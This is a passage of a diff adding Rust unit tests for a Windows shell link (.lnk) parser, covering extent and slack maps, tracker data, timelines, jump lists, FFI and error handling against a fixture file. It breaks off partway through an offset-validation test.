+        NaiveDate::from_ymd_opt(2008, 9, 10).unwrap()
+    );
+    assert_eq!(Some(info.timestamp()), tracker.droid()[1].timestamp());
+    assert_eq!(tracker.droid_birth_info(), Some(info));
+}
+
+#[test]
+fn test_flat_map() {
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    let map = shortcut.to_flat_map();
+    let get = |key: &str| map.get(key).map(String::as_str);
+    assert_eq!(
+        get("header.write_time"),
+        Some("2008-09-12T20:27:17.101+00:00")
+    );
+    assert_eq!(
+        get("header.link_flags"),
+        Some("HAS_LINK_TARGET_ID_LIST | HAS_LINK_INFO | HAS_RELATIVE_PATH | HAS_WORKING_DIR | IS_UNICODE | ENABLE_TARGET_METADATA")
+    );
+    assert_eq!(get("target.path"), Some(r"C:\test\a.txt"));
+    assert_eq!(get("target.extension"), Some("txt"));
+    assert_eq!(get("target.location"), Some("LocalFixed"));
+    assert_eq!(get("stringdata.relative_path"), Some(r".\a.txt"));
+    assert_eq!(get("stringdata.arguments"), None);
+    assert_eq!(get("extra.tracker.machine_id"), Some("chris-xps"));
+    assert_eq!(get("extra.tracker.mac_address"), Some("00:13:72:16:87:4A"));
+    assert_eq!(get("linkinfo.volume.drive_type"), Some("DriveFixed"));
+}
+
+#[test]
+fn test_extent_map() {
+    use lnk::ExtentMap;
+
+    let map = ExtentMap::open(TEST_FILE_NAME).unwrap();
+    assert_eq!(map.slack(), []);
+    assert_eq!(
+        map.extents()[0].to_string(),
+        "0x0000..0x004c ShellLinkHeader"
+    );
+    assert_eq!(map.at(0x130).unwrap().name, "LinkInfo/VolumeID");
+    assert_eq!(map.at(0x150).unwrap().name, "StringData/RelativePath");
+    let terminal = map.extents().last().unwrap();
+    assert_eq!(terminal.name, "ExtraData/TerminalBlock");
+    assert_eq!(terminal.range(), 0x1c7..0x1cb);
+
+    // Hide four bytes after the TerminalID of the LinkTargetIDList, and more
+    // after the shell link.
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap();
+    data[0x4c..0x4e].copy_from_slice(&(0xbdu16 + 4).to_le_bytes());
+    data.splice(0x10b..0x10b, *b"junk");
+    data.extend_from_slice(b"payload");
+    let map = ExtentMap::from_slice(&data).unwrap();
+    let slack: Vec<String> = map.slack().iter().map(|slack| slack.to_string()).collect();
+    assert_eq!(
+        slack,
+        [
+            "0x010b..0x010f LinkTargetIDList",
+            "0x01cf..0x01d6 TrailingData"
+        ]
+    );
+    assert_eq!(map.at(0x10b).unwrap().name, "LinkTargetIDList");
+}
+
+#[test]
+fn test_extent_map_fields() {
+    use lnk::ExtentMap;
+
+    let map = ExtentMap::open(TEST_FILE_NAME).unwrap();
+    let fields = map.fields();
+    assert_eq!(
+        fields[0].to_string(),
+        "0x0000..0x0004 ShellLinkHeader/HeaderSize = 76"
+    );
+    assert!(fields
+        .windows(2)
+        .all(|pair| pair[0].range().end <= pair[1].offset));
+    assert!(fields.iter().all(|field| map.at(field.offset).is_some()));
+
+    let field = |offset: usize| {
+        let field = map.field_at(offset).unwrap();
+        (field.path.as_str(), field.value.as_str())
+    };
+    assert_eq!(
+        field(0x1e),
+        ("ShellLinkHeader/CreationTime", "2008-09-12 20:27:17.101")
+    );
+    assert_eq!(field(0x3c), ("ShellLinkHeader/ShowCommand", "ShowNormal"));
+    assert_eq!(field(0x12b), ("LinkInfo/VolumeID/DriveType", "DriveFixed"));
+    assert_eq!(field(0x13a), ("LinkInfo/LocalBasePath", r"C:\test\a.txt"));
+    assert_eq!(field(0x150), ("StringData/RelativePath/String", r".\a.txt"));
+    assert_eq!(
+        field(0x177),
+        ("ExtraData/TrackerDataBlock/MachineID", "chris-xps")
+    );
+    assert_eq!(
+        field(0x1b7),
+        (
+            "ExtraData/TrackerDataBlock/DroidBirth[1]",
+            "{7BCD46EC-7F22-11DD-9499-00137216874A}"
+        )
+    );
+}
+
+/// A MachineID with no terminator is the whole of its field, rather than
+/// an empty string.
+#[test]
+fn test_tracker_machine_id_without_terminator() {
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap();
+    data[0x177..0x187].copy_from_slice(b"WORKSTATION-0001");
+    let (shortcut, _) = ShellLink::from_slice(&data).unwrap();
+    match &shortcut.extra_data()[0] {
+        ExtraData::TrackerProps(tracker) => {
+            assert_eq!(tracker.machine_id(), "WORKSTATION-0001")
+        }
+        _ => panic!("expected a TrackerDataBlock"),
+    }
+}
+
+/// The MachineID ends with its 16-byte field, even when it has no
+/// terminator, so the droids that follow are not read as part of it.
+#[test]
+fn test_tracker_machine_id_stays_in_its_field() {
+    let original = std::fs::read(TEST_FILE_NAME).unwrap();
+    let mut data = original.clone();
+    data[0x177..0x187].copy_from_slice(b"WORKSTATION-0001");
+    let tracker = |data: &[u8]| match &ShellLink::from_slice(data).unwrap().0.extra_data()[0] {
+        ExtraData::TrackerProps(tracker) => tracker.clone(),
+        _ => panic!("expected a TrackerDataBlock"),
+    };
+    let (original, tracker) = (tracker(&original), tracker(&data));
+    assert_eq!(tracker.machine_id_raw(), b"WORKSTATION-0001");
+    assert_eq!(tracker.machine_id().len(), 16);
+    assert_eq!(tracker.droid(), original.droid());
+    assert_eq!(tracker.droid_birth(), original.droid_birth());
+}
+
+#[test]
+fn test_tracker_machine_id() {
+    let tracker = |link: &ShellLink| match &link.extra_data()[0] {
+        ExtraData::TrackerProps(tracker) => tracker.clone(),
+        _ => panic!("expected a TrackerDataBlock"),
+    };
+    let data = std::fs::read(TEST_FILE_NAME).unwrap();
+    let (shortcut, _) = ShellLink::from_slice(&data).unwrap();
+    let original = tracker(&shortcut);
+    assert_eq!(original.machine_id_raw(), b"chris-xps\0\0\0\0\0\0\0");
+    assert_eq!(original.machine_name(), Some("chris-xps"));
+    assert_eq!(shortcut.warnings(), []);
+
+    // A TrackerDataBlock whose Length makes room for a 32-byte MachineID,
+    // holding a name too long for NetBIOS in Windows-1252.
+    let mut name = b"CAF\xc9-WORKSTATION-0001".to_vec();
+    name.resize(32, 0);
+    let mut linked = data[..0x167].to_vec();
+    linked.extend_from_slice(&0x70u32.to_le_bytes());
+    linked.extend_from_slice(&0xa000_0003u32.to_le_bytes());
+    linked.extend_from_slice(&0x68u32.to_le_bytes());
+    linked.extend_from_slice(&0u32.to_le_bytes());
+    linked.extend_from_slice(&name);
+    linked.extend_from_slice(&data[0x187..0x1c7]);
+    linked.extend_from_slice(&[0; 4]);
+    let (shortcut, _) = ShellLink::from_slice(&linked).unwrap();
+    let long = tracker(&shortcut);
+    assert_eq!(long.machine_id(), "CAFÉ-WORKSTATION-0001");
+    assert_eq!(long.machine_id_raw(), name);
+    assert_eq!(long.machine_name(), None);
+    assert_eq!(long.droid(), original.droid());
+    assert_eq!(long.droid_birth(), original.droid_birth());
+    let offsets: Vec<usize> = shortcut
+        .warnings()
+        .iter()
+        .map(|warning| warning.offset())
+        .collect();
+    assert_eq!(offsets, [0x16f, 0x177]);
+
+    let redacted = redact(&linked, &RedactOptions::default()).unwrap();
+    assert_eq!(&redacted[0x177..0x1d7], &[0; 0x60]);
+}
+
+#[test]
+fn test_timeline() {
+    use lnk::timeline::{EventKind, EventSource};
+
+    let _ = pretty_env_logger::try_init();
+
+    // The example version 1 UUID from RFC 9562.
+    let guid: Guid = "{C232AB00-9414-11EC-B3C8-9F6BDECED846}".parse().unwrap();
+    assert_eq!(guid.version(), 1);
+    assert_eq!(
+        guid.timestamp().unwrap().datetime(),
+        NaiveDate::from_ymd_opt(2022, 2, 22)
+            .unwrap()
+            .and_hms_opt(19, 22, 22)
+            .unwrap()
+    );
+    assert_eq!(Guid::NIL.timestamp(), None);
+
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    let events = shortcut.events();
+    let kinds: Vec<_> = events.iter().map(|event| event.kind).collect();
+    assert_eq!(
+        kinds,
+        [
+            EventKind::DroidCreated,
+            EventKind::BirthDroidCreated,
+            EventKind::ItemCreated,
+            EventKind::TargetCreated,
+            EventKind::TargetModified,
+            EventKind::TargetAccessed,
+            EventKind::ItemModified,
+            EventKind::ItemAccessed,
+            EventKind::ItemCreated,
+            EventKind::ItemModified,
+            EventKind::ItemAccessed,
+        ]
+    );
+    assert_eq!(events[0].source, EventSource::TrackerDataBlock);
+    assert_eq!(events[3].time, shortcut.header().creation_time());
+    assert!(events.windows(2).all(|pair| pair[0].time <= pair[1].time));
+
+    // The times of the file entry items, in local time, which is UTC for
+    // the test file
+    let item = events[2];
+    assert_eq!(item.source, EventSource::LinkTargetIdList { item: 2 });
+    assert_eq!(
+        item.time.datetime(),
+        NaiveDate::from_ymd_opt(2008, 9, 12)
+            .unwrap()
+            .and_hms_opt(20, 27, 10)
+            .unwrap()
+    );
+    assert_eq!(
+        item.to_string(),
+        "2008-09-12 20:27:10 UTC Item created (LinkTargetIDList/ItemID[2])"
+    );
+    assert_eq!(events[10].source, EventSource::LinkTargetIdList { item: 3 });
+
+    let timestamps = shortcut.timestamps();
+    assert_eq!(timestamps.len(), 11);
+    assert_eq!(timestamps[0].kind, EventKind::TargetCreated);
+    assert_eq!(timestamps[3].kind, EventKind::ItemCreated);
+    assert_eq!(timestamps[9].kind, EventKind::DroidCreated);
+
+    // A PropertyStoreDataBlock with System.DateModified and a string.
+    let modified = FileTime::from(
+        NaiveDate::from_ymd_opt(2021, 6, 1)
+            .unwrap()
+            .and_hms_opt(12, 0, 0)
+            .unwrap(),
+    );
+    let format_id: Guid = "{B725F130-47EF-101A-A5F1-02608C9EEBAC}".parse().unwrap();
+    let mut values = Vec::new();
+    values.extend_from_slice(&21u32.to_le_bytes());
+    values.extend_from_slice(&14u32.to_le_bytes());
+    values.extend_from_slice(&[0, 0x40, 0, 0, 0]);
+    values.extend_from_slice(&modified.raw().to_le_bytes());
+    values.extend_from_slice(&17u32.to_le_bytes());
+    values.extend_from_slice(&10u32.to_le_bytes());
+    values.extend_from_slice(&[0, 0x1f, 0, 0, 0, 0, 0, 0, 0]);
+    values.extend_from_slice(&[0; 4]);
+    let mut store = Vec::new();
+    store.extend_from_slice(&(values.len() as u32 + 24).to_le_bytes());
+    store.extend_from_slice(b"1SPS");
+    store.extend_from_slice(&format_id.to_bytes_le());
+    store.extend_from_slice(&values);
+    store.extend_from_slice(&[0; 4]);
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap();
+    data.truncate(data.len() - 4);
+    data.extend_from_slice(&(store.len() as u32 + 8).to_le_bytes());
+    data.extend_from_slice(&0xa000_0009u32.to_le_bytes());
+    data.extend_from_slice(&store);
+    data.extend_from_slice(&[0; 4]);
+
+    let (shortcut, _) = ShellLink::from_slice(&data).unwrap();
+    let timestamps = shortcut.timestamps();
+    assert_eq!(timestamps.len(), 12);
+    let property = timestamps[11];
+    assert_eq!(property.time, modified);
+    assert_eq!(property.source, EventSource::PropertyStoreDataBlock);
+    assert_eq!(
+        property.kind,
+        EventKind::Property {
+            format_id,
+            property_id: 14
+        }
+    );
+    assert_eq!(property.kind.to_string(), "Property System.DateModified");
+    assert_eq!(shortcut.events().last(), Some(&property));
+
+    let metadata = std::fs::metadata(TEST_FILE_NAME).unwrap();
+    assert!(metadata
+        .events()
+        .iter()
+        .any(|event| event.kind == EventKind::LinkModified));
+}
+
+#[cfg(feature = "arbitrary")]
+#[test]
+fn test_arbitrary() {
+    use arbitrary::{Arbitrary, Unstructured};
+
+    let _ = pretty_env_logger::try_init();
+
+    // A fixed pseudo-random input, so that the test is repeatable.
+    let mut state = 0x2545_f491_4f6c_dd1d_u64;
+    let input: Vec<u8> = (0..0x10000)
+        .map(|_| {
+            state ^= state << 13;
+            state ^= state >> 7;
+            state ^= state << 17;
+            state as u8
+        })
+        .collect();
+    let mut u = Unstructured::new(&input);
+    for _ in 0..32 {
+        let link = ShellLink::arbitrary(&mut u).unwrap();
+        let flags = *link.header().link_flags();
+        assert!(flags.contains(LinkFlags::IS_UNICODE));
+        assert_eq!(
+            flags.contains(LinkFlags::HAS_LINK_TARGET_ID_LIST),
+            link.link_target_id_list().is_some()
+        );
+        assert_eq!(
+            flags.contains(LinkFlags::HAS_LINK_INFO),
+            link.link_info().is_some()
+        );
+        assert_eq!(flags.contains(LinkFlags::HAS_NAME), link.name().is_some());
+        assert_eq!(
+            flags.contains(LinkFlags::HAS_ARGUMENTS),
+            link.arguments().is_some()
+        );
+        assert_eq!(
+            link.header().show_command_raw(),
+            *link.header().show_command() as u32
+        );
+        if let Some(id_list) = link.link_target_id_list() {
+            let items: usize = id_list.id_list().iter().map(|id| id.data().len() + 2).sum();
+            assert_eq!(id_list.size as usize, items + 2);
+        }
+        if let Some(link_info) = link.link_info() {
+            assert!(link_info.size >= 0x1c);
+            assert_eq!(
+                link_info.volume_id().is_some(),
+                link_info.local_base_path().is_some()
+            );
+        }
+        for name in [link.name(), link.arguments(), link.working_dir()]
+            .into_iter()
+            .flatten()
+        {
+            assert!(!name.contains('\0'));
+        }
+    }
+}
+
+#[cfg(all(windows, feature = "com"))]
+#[test]
+fn test_com() {
+    let _ = pretty_env_logger::try_init();
+
+    let resolved = lnk::com::resolve(TEST_FILE_NAME).unwrap();
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    assert_eq!(&resolved.working_dir, shortcut.working_dir());
+    assert_eq!(&resolved.arguments, shortcut.arguments());
+    assert_eq!(resolved.icon_index, shortcut.header().icon_index());
+
+    let mismatches = lnk::com::verify(TEST_FILE_NAME).unwrap();
+    assert_eq!(
+        mismatches,
+        lnk::com::compare(&shortcut, &resolved),
+        "{:?}",
+        mismatches
+    );
+}
+
+#[cfg(all(windows, feature = "com"))]
+#[test]
+fn test_com_compare_target() {
+    let link = |fixture: LinkFixture| ShellLink::from_slice(&fixture.to_bytes()).unwrap().0;
+    let resolved = |target: &str| lnk::com::Resolved {
+        target: Some(target.to_string()),
+        show_command: 1,
+        ..Default::default()
+    };
+
+    let shortcut = link(LinkFixture::network(r"\\server\share", "a.txt"));
+    assert_eq!(
+        lnk::com::compare(&shortcut, &resolved(r"\\server\share\a.txt")),
+        []
+    );
+    let mismatches = lnk::com::compare(&shortcut, &resolved(r"\\server\other\a.txt"));
+    assert_eq!(mismatches.len(), 1);
+    assert_eq!(mismatches[0].field, "Target");
+
+    // The target of a link with only an IDList is not compared.
+    let shortcut = link(LinkFixture {
+        id_list: Some(vec![testing::drive_item(r"C:\")]),
+        ..Default::default()
+    });
+    assert_eq!(lnk::com::compare(&shortcut, &resolved(r"C:\")), []);
+}
+
+#[cfg(feature = "ffi")]
+#[test]
+fn test_ffi() {
+    use lnk::ffi::*;
+    use std::ffi::CStr;
+
+    let _ = pretty_env_logger::try_init();
+
+    let data = std::fs::read(TEST_FILE_NAME).unwrap();
+    unsafe {
+        let link = lnk_parse(data.as_ptr(), data.len());
+        assert!(!link.is_null());
+        let relative_path = lnk_relative_path(link);
+        assert_eq!(CStr::from_ptr(relative_path).to_str(), Ok(r".\a.txt"));
+        lnk_string_free(relative_path);
+        assert!(lnk_arguments(link).is_null());
+        assert_eq!(lnk_show_command(link), 1);
+        let json = lnk_to_json(link);
+        assert!(CStr::from_ptr(json).to_bytes().starts_with(b"{"));
+        lnk_string_free(json);
+        lnk_free(link);
+
+        assert!(lnk_parse(data.as_ptr(), 10).is_null());
+        let error = CStr::from_ptr(lnk_last_error());
+        assert_eq!(error.to_str(), Ok("not a shell link"));
+
+        // A string holding a NULL character is not cut short.
+        let data = LinkFixture {
+            arguments: Some("/a\0/b".to_string()),
+            ..Default::default()
+        }
+        .to_bytes();
+        let link = lnk_parse(data.as_ptr(), data.len());
+        assert!(!link.is_null());
+        assert!(lnk_arguments(link).is_null());
+        let error = CStr::from_ptr(lnk_last_error());
+        assert_eq!(error.to_str(), Ok("the string holds a NULL character"));
+        lnk_free(link);
+    }
+}
+
+#[test]
+fn test_custom_destinations() {
+    use lnk::customdestinations::{CategoryKind, KnownCategory};
+
+    let _ = pretty_env_logger::try_init();
+
+    let link = std::fs::read(TEST_FILE_NAME).unwrap();
+    let clsid = [
+        0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xc0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
+        0x46,
+    ];
+    let footer = 0xbabf_fbabu32.to_le_bytes();
+    let mut data = Vec::new();
+    for field in [2u32, 3, 0] {
+        data.extend_from_slice(&field.to_le_bytes());
+    }
+    // A custom category with two entries.
+    data.extend_from_slice(&0u32.to_le_bytes());
+    data.extend_from_slice(&4u16.to_le_bytes());
+    data.extend("Work".encode_utf16().flat_map(u16::to_le_bytes));
+    data.extend_from_slice(&2u32.to_le_bytes());
+    for _ in 0..2 {
+        data.extend_from_slice(&clsid);
+        data.extend_from_slice(&link);
+    }
+    data.extend_from_slice(&footer);
+    // The recent items.
+    data.extend_from_slice(&1u32.to_le_bytes());
+    data.extend_from_slice(&(-2i32).to_le_bytes());
+    data.extend_from_slice(&footer);
+    // The tasks, with one entry.
+    data.extend_from_slice(&2u32.to_le_bytes());
+    data.extend_from_slice(&1u32.to_le_bytes());
+    data.extend_from_slice(&clsid);
+    data.extend_from_slice(&link);
+    data.extend_from_slice(&footer);
+    data.extend_from_slice(&footer);
+
+    let jump_list = CustomDestinations::from_slice(&data).unwrap();
+    assert!(jump_list.warnings().is_empty());
+    let kinds: Vec<_> = jump_list.categories().iter().map(|c| c.kind()).collect();
+    assert_eq!(
+        kinds,
+        [
+            &CategoryKind::Custom {
+                title: "Work".to_string()
+            },
+            &CategoryKind::Known(KnownCategory::Recent),
+            &CategoryKind::Tasks,
+        ]
+    );
+    let links: Vec<_> = jump_list.links().collect();
+    assert_eq!(links.len(), 3);
+    assert_eq!(links[2].0, 2);
+    assert_eq!(links[2].1.relative_path(), &Some(r".\a.txt".to_string()));
+    assert_eq!(links[2].1.trailing_data(), None);
+
+    // A broken entry loses the rest of the file, but not what came before.
+    let broken = data.len() - 8 - link.len() + 0x4c;
+    data[broken..broken + 4].copy_from_slice(&0xffffu32.to_le_bytes());
+    let jump_list = CustomDestinations::from_slice(&data).unwrap();
+    assert_eq!(jump_list.categories().len(), 2);
+    assert_eq!(jump_list.warnings().len(), 1);
+    let strict = ParseOptions {
+        strict: true,
+        ..Default::default()
+    };
+    assert!(CustomDestinations::from_slice_with_options(&data, &strict).is_err());
+}
+
+#[cfg(feature = "cfb")]
+#[test]
+fn test_jump_list() {
+    use lnk::jumplist::JumpList;
+    use std::io::Write;
+
+    let _ = pretty_env_logger::try_init();
+
+    let path: Vec<u8> = r"C:\test\a.txt"
+        .encode_utf16()
+        .flat_map(u16::to_le_bytes)
+        .collect();
+    let mut dest_list = Vec::new();
+    for field in [4u32, 1, 1, 0, 1, 0, 1, 0] {
+        dest_list.extend_from_slice(&field.to_le_bytes());
+    }
+    let mut entry = vec![0u8; 130];
+    entry[72..81].copy_from_slice(b"chris-xps");
+    entry[88..92].copy_from_slice(&1u32.to_le_bytes());
+    entry[100..108].copy_from_slice(&0x01c9_1513_a2c4_0d42u64.to_le_bytes());
+    entry[108..112].copy_from_slice(&0u32.to_le_bytes());
+    entry[128..130].copy_from_slice(&13u16.to_le_bytes());
+    dest_list.extend_from_slice(&entry);
+    dest_list.extend_from_slice(&path);
+    dest_list.extend_from_slice(&[0; 4]);
+
+    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
+    let streams: [(&str, Vec<u8>); 3] = [
+        ("a", b"not a shell link".to_vec()),
+        ("1", std::fs::read(TEST_FILE_NAME).unwrap()),
+        ("DestList", dest_list),
+    ];
+    for (name, data) in streams {
+        file.create_stream(name).unwrap().write_all(&data).unwrap();
+    }
+    let data = file.into_inner().into_inner();
+
+    let jump_list = JumpList::from_reader(Cursor::new(data)).unwrap();
+    assert!(jump_list.warnings().is_empty());
+    let entries = jump_list.entries();
+    assert_eq!(entries.len(), 2);
+    assert_eq!(entries[0].stream_name(), "1");
+    let link = entries[0].link().unwrap();
+    assert_eq!(link.relative_path(), &Some(r".\a.txt".to_string()));
+    let destination = entries[0].destination().unwrap();
+    assert_eq!(destination.hostname(), "chris-xps");
+    assert_eq!(destination.path(), r"C:\test\a.txt");
+    assert_eq!(destination.pin_position(), Some(0));
+    assert_eq!(entries[1].stream_name(), "a");
+    assert!(matches!(entries[1].link(), Err(Error::NotAShellLinkError)));
+    assert!(entries[1].destination().is_none());
+
+    assert!(JumpList::from_reader(Cursor::new(b"not a compound file".to_vec())).is_err());
+}
+
+#[test]
+fn test_structured_errors() {
+    let _ = pretty_env_logger::try_init();
+
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap();
+    data[299..303].copy_from_slice(&99u32.to_le_bytes());
+    let no_resync = ParseOptions {
+        resynchronize: false,
+        ..Default::default()
+    };
+    let err = ShellLink::from_slice_with_options(&data, &no_resync).unwrap_err();
+    assert!(
+        matches!(
+            &err,
+            Error::UnexpectedValue {
+                structure: "VolumeID",
+                offset: 299,
+                field: "DriveType",
+                found,
+                ..
+            } if found == "99"
+        ),
+        "{:?}",
+        err
+    );
+    assert_eq!(
+        err.to_string(),
+        "VolumeID at offset 0x12b: expected DriveType to be 0 to 6, found 99"
+    );
+
+    let err = ShellLink::from_slice(&data[..280]).unwrap_err();
+    assert!(
+        matches!(
+            err,
+            Error::UnexpectedEof {
+                structure: "LinkInfo",
+                offset: 267,
+                needed: 0x1c,
+                available: 13,
+            }
+        ),
+        "{:?}",
+        err
+    );
+
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap();
+    data[68..72].copy_from_slice(&1u32.to_le_bytes());
+    let strict = ParseOptions {
+        strict: true,
+        ..Default::default()
+    };
+    let err = ShellLink::from_slice_with_options(&data, &strict).unwrap_err();
+    assert!(
+        matches!(
+            err,
+            Error::NonConformant {
+                structure: "ShellLinkHeader",
+                offset: 66,
+                ..
+            }
+        ),
+        "{:?}",
+        err
+    );
+}
+
+#[test]
+fn test_error_domain() {
+    let strict = ParseOptions {
+        strict: true,
+        resynchronize: false,
+        ..Default::default()
+    };
+    let parse = |data: &[u8]| ShellLink::from_slice_with_options(data, &strict).unwrap_err();
+    let original = std::fs::read(TEST_FILE_NAME).unwrap();
+    let with = |offset: usize, value: u32| {
+        let mut data = original.clone();
+        data[offset..offset + 4].copy_from_slice(&value.to_le_bytes());
+        data
+    };
+
+    assert_eq!(parse(&[0; 0x4c]).domain(), ErrorDomain::Header);
+    // An ItemID too small for its ItemIDSize
+    assert_eq!(parse(&with(78, 1)).domain(), ErrorDomain::IdList);
+    // A VolumeID with an unknown DriveType
+    assert_eq!(parse(&with(299, 99)).domain(), ErrorDomain::LinkInfo);
+    assert_eq!(parse(&original[..0x150]).domain(), ErrorDomain::StringData);
+    // A TrackerDataBlock with the wrong Length
+    assert_eq!(parse(&with(0x16f, 1)).domain(), ErrorDomain::ExtraData);
+    assert_eq!(
+        ShellLink::open("does-not-exist.lnk").unwrap_err().domain(),
+        ErrorDomain::Io
+    );
+    let too_long = "a".repeat(260);
+    assert_eq!(
+        lnk::extradata::environment_variable_data::EnvironmentVariableDataBlock::new(&too_long)
+            .unwrap_err()
+            .domain(),
+        ErrorDomain::Encoding
+    );
+}
+
+#[test]
+fn test_resynchronization() {
+    let _ = pretty_env_logger::try_init();
+
+    // Give the VolumeID an unknown DriveType.
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap();
+    data[299..303].copy_from_slice(&99u32.to_le_bytes());
+    let (shortcut, _) = ShellLink::from_slice(&data).unwrap();
+    assert!(shortcut.link_target_id_list().is_some());
+    assert!(shortcut.link_info().is_none());
+    assert_eq!(shortcut.relative_path(), &Some(r".\a.txt".to_string()));
+    assert_eq!(shortcut.extra_data().len(), 1);
+    assert_eq!(shortcut.warnings().len(), 1);
+    assert_eq!(shortcut.warnings()[0].structure(), "LinkInfo");
+    assert_eq!(shortcut.warnings()[0].offset(), 267);
+
+    // Give the first ItemID an impossible size.
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap();
+    data[78..80].copy_from_slice(&1u16.to_le_bytes());
+    let (shortcut, _) = ShellLink::from_slice(&data).unwrap();
+    assert!(shortcut.link_target_id_list().is_none());
+    assert!(shortcut.link_info().is_some());
+    assert_eq!(shortcut.working_dir(), &Some(r"C:\test".to_string()));
+    assert_eq!(shortcut.warnings()[0].structure(), "LinkTargetIDList");
+}
+
+#[test]
+fn test_size_limits() {
+    let _ = pretty_env_logger::try_init();
+
+    // No limit at all
+    let options = ParseOptions {
+        max_input_size: usize::MAX,
+        ..Default::default()
+    };
+    assert!(ShellLink::open_with_options(TEST_FILE_NAME, &options).is_ok());
+
+    let options = ParseOptions {
+        max_input_size: 100,
+        ..Default::default()
+    };
+    assert!(matches!(
+        ShellLink::open_with_options(TEST_FILE_NAME, &options),
+        Err(Error::LimitExceeded {
+            structure: "ShellLink",
+            limit: 100,
+            size: 101,
+            ..
+        })
+    ));
+
+    let options = ParseOptions {
+        max_structure_size: 200,
+        ..Default::default()
+    };
+    assert!(ShellLink::open_with_options(TEST_FILE_NAME, &options).is_ok());
+    let options = ParseOptions {
+        max_structure_size: 100,
+        ..Default::default()
+    };
+    assert!(matches!(
+        ShellLink::open_with_options(TEST_FILE_NAME, &options),
+        Err(Error::LimitExceeded {
+            structure: "LinkTargetIDList",
+            offset: 0x4c,
+            limit: 100,
+            size: 189,
+        })
+    ));
+}
+
+#[test]
+fn test_header_only() {
+    let _ = pretty_env_logger::try_init();
+
+    let full = ShellLink::open(TEST_FILE_NAME).unwrap();
+    let header = ShellLinkHeader::open(TEST_FILE_NAME).unwrap();
+    assert_eq!(header.link_flags(), full.header().link_flags());
+    assert_eq!(header.write_time().raw(), full.header().write_time().raw());
+
+    let mut reader = Cursor::new(std::fs::read(TEST_FILE_NAME).unwrap());
+    ShellLinkHeader::from_reader(&mut reader).unwrap();
+    assert_eq!(reader.position(), 0x4c);
+    assert!(matches!(
+        ShellLinkHeader::from_reader(&b"short"[..]),
+        Err(Error::NotAShellLinkError)
+    ));
+
+    let options = ParseOptions {
+        header_only: true,
+        ..Default::default()
+    };
+    let mut reader = Cursor::new(std::fs::read(TEST_FILE_NAME).unwrap());
+    let shortcut = ShellLink::from_reader_with_options(&mut reader, &options).unwrap();
+    assert_eq!(reader.position(), 0x4c);
+    assert_eq!(shortcut.header().link_flags(), full.header().link_flags());
+    assert!(shortcut.link_info().is_none());
+    assert!(shortcut.relative_path().is_none());
+    assert!(shortcut.extra_data().is_empty());
+}
+
+#[test]
+fn test_parse_does_not_read_clock() {
+    let _ = pretty_env_logger::try_init();
+
+    let data = std::fs::read(TEST_FILE_NAME).unwrap();
+    let before = testing::clock_reads();
+    for header_only in [false, true] {
+        let options = ParseOptions {
+            header_only,
+            ..Default::default()
+        };
+        ShellLink::from_slice_with_options(&data, &options).unwrap();
+        ShellLink::from_reader_with_options(&mut Cursor::new(&data), &options).unwrap();
+        ShellLinkHeader::from_reader(&mut Cursor::new(&data)).unwrap();
+        ShellLinkRef::parse_with_options(&data, &options).unwrap();
+    }
+    assert_eq!(testing::clock_reads(), before);
+
+    let _ = ShellLink::default();
+    assert_eq!(testing::clock_reads(), before + 3);
+}
+
+#[test]
+fn test_ignore_signature() {
+    let _ = pretty_env_logger::try_init();
+
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap();
+    data[0..4].copy_from_slice(&0x50u32.to_le_bytes());
+    data[4] ^= 0xff;
+    assert!(matches!(
+        ShellLink::from_slice(&data),
+        Err(Error::NotAShellLinkError)
+    ));
+
+    let options = ParseOptions {
+        ignore_signature: true,
+        ..Default::default()
+    };
+    let (shortcut, size) = ShellLink::from_slice_with_options(&data, &options).unwrap();
+    assert_eq!(size, data.len());
+    assert_eq!(
+        shortcut
+            .link_info()
+            .as_ref()
+            .unwrap()
+            .local_base_path()
+            .as_deref(),
+        Some(r"C:\test\a.txt")
+    );
+    let offsets: Vec<usize> = shortcut
+        .warnings()
+        .iter()
+        .map(|warning| warning.offset())
+        .collect();
+    assert_eq!(offsets, [0, 4]);
+    assert_eq!(shortcut.warnings()[0].structure(), "ShellLinkHeader");
+    let shortcut = ShellLink::from_reader_with_options(Cursor::new(&data), &options).unwrap();
+    assert_eq!(shortcut.warnings().len(), 2);
+
+    let options = ParseOptions {
+        strict: true,
+        ..options
+    };
+    assert!(matches!(
+        ShellLink::from_slice_with_options(&data, &options),
+        Err(Error::NonConformant { offset: 0, .. })
+    ));
+}
+
+#[test]
+fn test_validate_offsets() {
+    let _ = pretty_env_logger::try_init();
+
+    let shortcut = ShellLink::open(TEST_FILE_NAME).unwrap();
+    assert_eq!(shortcut.validate_offsets(), vec![]);
+
+    let mut data = std::fs::read(TEST_FILE_NAME).unwrap();
+    // CommonNetworkRelativeLinkOffset, without its flag
+    data[287..291].copy_from_slice(&0x3bu32.to_le_bytes());
+    // CommonPathSuffixOffset, overlapping the end of LocalBasePath
+    data[291..295].copy_from_slice(&0x3au32.to_le_bytes());
+    let (shortcut, _) = ShellLink::from_slice(&data).unwrap();
+    let discrepancies = shortcut.validate_offsets();
+    assert_eq!(discrepancies.len(), 2, "{:?}", discrepancies);
+    assert_eq!(discrepancies[0].field(), "CommonNetworkRelativeLinkOffset");
+    assert_eq!(discrepancies[0].problem(), &OffsetProblem::Unexpected);
+    assert_eq!(discrepancies[1].structure(), "LinkInfo");
+    assert_eq!(discrepancies[1].offset(), 0x3a);
+    assert_eq!(
+        discrepancies[1].problem(),
+        &OffsetProblem::Misplaced { expected: 0x3b }
+    );
+    assert_eq!(
+        discrepancies[1].to_string(),
+        "LinkInfo CommonPathSuffixOffset of 0x3a should be 0x3b"
+    );
+
+    // VolumeLabelOffset, past the end of the VolumeID
+    data[295 + 12..295 + 16].copy_from_slice(&0x11u32.to_le_bytes());
+    let (shortcut, _) = ShellLink::from_slice(&data).unwrap();
